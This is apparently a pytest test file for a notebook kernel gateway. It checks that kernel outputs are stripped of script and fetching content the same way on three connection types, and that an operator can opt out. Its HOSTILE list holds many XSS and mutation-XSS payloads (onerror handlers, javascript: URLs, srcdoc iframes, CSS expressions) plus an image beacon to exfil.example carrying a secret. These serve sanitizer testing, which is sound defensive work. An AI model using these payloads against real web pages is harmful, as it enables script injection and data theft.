"""What a kernel's outputs may leave in a browser, over every front of one
daemon (issue 25, H1; gateway/gw_sanitize.c, gateway/gw_markup.c): the
same execution seen by a ZeroMQ client, a legacy JSON websocket and a
v1.kernel.websocket.jupyter.org one arrives cleaned the same way on all
three; hostile HTML, parsed as a browser parses it (html5lib, the HTML5
parsing algorithm), holds nothing that runs script or fetches; the
operator's `"active_content": "allow"` relays outputs as the kernel sent
them. The notebook UI itself: tests/httpclients/test_notebook_ui.py."""
import json
import re
import subprocess
import time

import pytest

from httptest import V1, connect, recv
from kennel_testlib import built, execute

CELL = r"""
from IPython.display import display, Javascript, HTML, SVG, Markdown
import pandas as pd
display(Javascript("Jupyter.notebook.kernel_selector.set_kernel('python3')"))
display(HTML('<b onclick="x()">bold</b><script>x()</script>'))
display(pd.DataFrame({'a': [1, 2], 'b': ['x', 'y']}))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="x()"><script>x()</script><rect width="9" height="9"/></svg>'))
display(Markdown('**md** <img src=x onerror=x()>'))
"""

# mXSS and filter-evasion forms (DOMPurify's and bleach's test suites have
# their like): each must come out inert once a browser's parser reads it.
HOSTILE = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<a href="jav&#x09;ascript:alert(1)">a</a><a href="&#106;avascript:alert(1)">b</a><a href=" javascript:x">c</a>',
    '<!--><img src=x onerror=alert(1)>-->', '<?xml version="1.0"?><img src=x onerror=alert(1)>',
    '<![CDATA[<img src=x onerror=alert(1)>]]>', '<table><td><style>body{display:none}</style><img src=x onerror=x>',
    '<select><template><style><img src=x onerror=x></style></template></select>',
    '<textarea></textarea><img src=x onerror=x>', '<xmp><img src=x onerror=x></xmp>',
    '<iframe srcdoc="&lt;script&gt;parent.x=1&lt;/script&gt;"></iframe>', '<object data="javascript:x()"></object>',
    '<div style="background:url(javascript:x);position:fixed;top:0">s</div>',
    '<div style="color:red;width:expression(alert(1))">e</div>', '<img src="https://exfil.example/?s=secret">',
    '<a href="data:text/html,&lt;script&gt;x()&lt;/script&gt;">d</a>', '<base href="https://evil/">',
    '<meta http-equiv="refresh" content="0;url=javascript:x()">', '<link rel="import" href="x">',
    '<details open ontoggle=x()>', '<input autofocus onfocus=x()>', '<video><source onerror=x()></video>',
    '<a href="#" id="notebook" name="Jupyter">clobber</a>', '<div class="modal in navbar-fixed-top">m</div>',
    '<scr<script>ipt>x()</script>', '<img """><script>x()</script>">', '<a href="\tjavascript:x()">t</a>',
    '<div>' * 300 + 'deep',
]
BAD_ELEMENTS = {"script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "link",
                "meta", "form", "input", "button", "select", "textarea", "template", "noscript", "svg", "math",
                "video", "audio", "source", "portal", "xmp", "noembed", "noframes", "plaintext", "title"}
SAFE_URL = re.compile(r"^(https?://|mailto:|#|data:image/(png|jpeg|gif|webp|bmp);base64,)", re.I)
SAFE_CSS = re.compile(r"^[a-z-]+: [A-Za-z0-9 #%.,()+-]+$")


def active_parts(html):
    """What in html, parsed by HTML5's algorithm, could run script, fetch,
    or place itself over the page: a list of descriptions (empty: inert)."""
    import html5lib
    found = []
    for el in html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False).iter():
        if not isinstance(el.tag, str):
            continue  # comments
        tag = el.tag.split("}")[-1].lower()
        if tag in BAD_ELEMENTS or "}" in el.tag:
            found.append(f"element {el.tag}")
        for name, value in el.attrib.items():
            name = name.split("}")[-1].lower() if isinstance(name, str) else str(name)
            if name.startswith("on") or name in ("id", "name", "srcdoc", "formaction", "action"):
                found.append(f"attribute {name}")
            if name in ("href", "src", "xlink:href", "action", "data") and not SAFE_URL.match(value):
                found.append(f"url {name}={value!r}")
            if name == "style" and any(not SAFE_CSS.match(d.strip()) for d in value.split(";") if d.strip()):
                found.append(f"style {value!r}")
            if name == "class" and set(value.split()) - {"dataframe"}:
                found.append(f"class {value!r}")
    return found


def displays(messages):
    return [m["content"]["data"] for m in messages if m["msg_type"] == "display_data"]


def iopub_of(ws, msg_id, subprotocol=None, timeout=60):
    """The iopub messages of request msg_id read on ws until its idle."""
    out, deadline = [], time.monotonic() + timeout
    ws.settimeout(timeout)
    while time.monotonic() < deadline:
        m = recv(ws, subprotocol)
        if m["parent_header"].get("msg_id") != msg_id:
            continue
        if m["msg_type"] == "status":
            if m["content"]["execution_state"] == "idle":
                return out
            continue
        out.append(m)
    raise TimeoutError(f"no idle for {msg_id} within {timeout} s")


def test_every_front_gets_the_same_inert_outputs(http_gateway, conversations):
    conv = conversations(http_gateway, "h1-fronts")
    legacy, v1 = connect(http_gateway, conv.kernel_id), connect(http_gateway, conv.kernel_id, V1)
    try:
        reply, zmq_out = execute(conv.kc, CELL, timeout=120)
        assert reply["content"]["status"] == "ok", reply["content"]
        msg_id = reply["parent_header"]["msg_id"]
        fronts = {"zmq": displays(zmq_out), "legacy": displays(iopub_of(legacy, msg_id)),
                  "v1": displays(iopub_of(v1, msg_id, V1))}
    finally:
        legacy.close()
        v1.close()
    assert fronts["legacy"] == fronts["zmq"] and fronts["v1"] == fronts["zmq"], fronts
    js, html, table, svg, md = fronts["zmq"]
    assert "application/javascript" not in js and js["text/plain"] == "<IPython.core.display.Javascript object>"
    assert html["text/html"] == "<b>bold</b>"
    assert "<style" not in table["text/html"] and '<table border="1" class="dataframe">' in table["text/html"]
    assert re.findall(r"<td>(.*?)</td>", table["text/html"]) == ["1", "x", "2", "y"]
    assert svg["image/svg+xml"].endswith('<rect width="9" height="9"></rect></svg>') and "script" not in svg["image/svg+xml"]
    assert "text/markdown" not in md and md["text/plain"] == "**md** <img src=x onerror=x()>"
    for bundle in fronts["zmq"]:
        assert not active_parts(bundle.get("text/html", "")), bundle
    # the daemon says what it took out, rate-limited
    lines = [json.loads(x) for x in http_gateway.log_file.read_text().splitlines() if '"active_content"' in x]
    assert {"conversation": "h1-fronts", "outcome": "cleaned"}.items() <= lines[0].items(), lines[:2]
    assert "application/javascript" in " ".join(x["removed"] for x in lines)


def test_hostile_html_is_inert_as_a_browser_parses_it(http_gateway, conversations):
    conv = conversations(http_gateway, "h1-hostile")
    code = "from IPython.display import display, HTML\nfor h in %r:\n    display(HTML(h))" % (HOSTILE,)
    reply, out = execute(conv.kc, code, timeout=120)
    assert reply["content"]["status"] == "ok", reply["content"]
    got = displays(out)
    assert len(got) == len(HOSTILE)
    bad = {h: active_parts(d.get("text/html", "")) for h, d in zip(HOSTILE, got)}
    assert not {h: f for h, f in bad.items() if f}, bad
    # not emptied wholesale: the text around the attacks stays
    assert next(d for h, d in zip(HOSTILE, got) if "clobber" in h)["text/html"] == "<a href=\"#\" rel=\"noopener " \
        "noreferrer\" target=\"_blank\">clobber</a>"
    assert got[-1] == {"text/plain": "<IPython.core.display.HTML object>"}  # 300 levels: refused, not cut


def test_the_operator_may_allow_active_content(make_http_gateway, conversations):
    gw = make_http_gateway(config={"active_content": "allow"})
    conv = conversations(gw, "h1-allowed")
    reply, out = execute(conv.kc, CELL, timeout=120)
    assert reply["content"]["status"] == "ok", reply["content"]
    js, html = displays(out)[:2]
    assert js["application/javascript"] == "Jupyter.notebook.kernel_selector.set_kernel('python3')"
    assert html["text/html"] == '<b onclick="x()">bold</b><script>x()</script>'


@pytest.mark.parametrize("value", ["maybe", True])
def test_a_bad_active_content_is_refused_at_start(tmp_path, value):
    cfg = tmp_path / "config.json"
    cfg.write_text(json.dumps({"active_content": value}))
    out = subprocess.run([str(built("gateway/kennel")), "serve", "--state-dir", str(tmp_path / "state"),
                          "--config", str(cfg)], capture_output=True, text=True, timeout=30)
    assert out.returncode == 2, out
    assert 'active_content must be "sanitize" or "allow"' in out.stderr, out.stderr
